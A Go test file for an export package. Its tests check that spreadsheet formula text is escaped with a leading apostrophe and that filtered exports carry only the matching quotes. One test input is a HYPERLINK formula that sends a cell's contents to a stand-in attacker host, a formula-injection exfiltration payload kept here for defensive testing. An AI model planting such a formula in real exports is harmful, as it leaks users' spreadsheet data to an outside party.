package export

import (
	"bytes"
	"testing"

	"dateline/graph"
)

// TestCellNeutralisesFormulas: text that a spreadsheet would run as a
// formula is written as text; other text is unchanged.
func TestCellNeutralisesFormulas(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		{`=HYPERLINK("http://evil.example/?"&A1,"click")`, `'=HYPERLINK("http://evil.example/?"&A1,"click")`},
		{"+33 1 23", "'+33 1 23"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"We will not give up", "We will not give up"},
		{"a = b", "a = b"},
		{"", ""},
	} {
		if got := cell(c.in); got != c.want {
			t.Errorf("cell(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

// TestSubsetCarriesItsOwnQuotes: an export cut to some kinds (or the top
// N) carries the quotes its kept entities spoke, not every quote in the
// store.
func TestSubsetCarriesItsOwnQuotes(t *testing.T) {
	st := tinyStore(t)
	count := func(sel Selection) int {
		return bytes.Count(export(t, st, "quotes-jsonl", sel), []byte("\n"))
	}
	if n := count(Selection{}); n != 2 {
		t.Fatalf("whole store: %d quotes, want 2", n)
	}
	if n := count(Selection{Kinds: []graph.Kind{graph.Person}}); n != 2 {
		t.Errorf("people: %d quotes, want 2", n)
	}
	if n := count(Selection{Kinds: []graph.Kind{graph.Place}}); n != 0 {
		t.Errorf("places: %d quotes, want 0 (no place spoke)", n)
	}
}
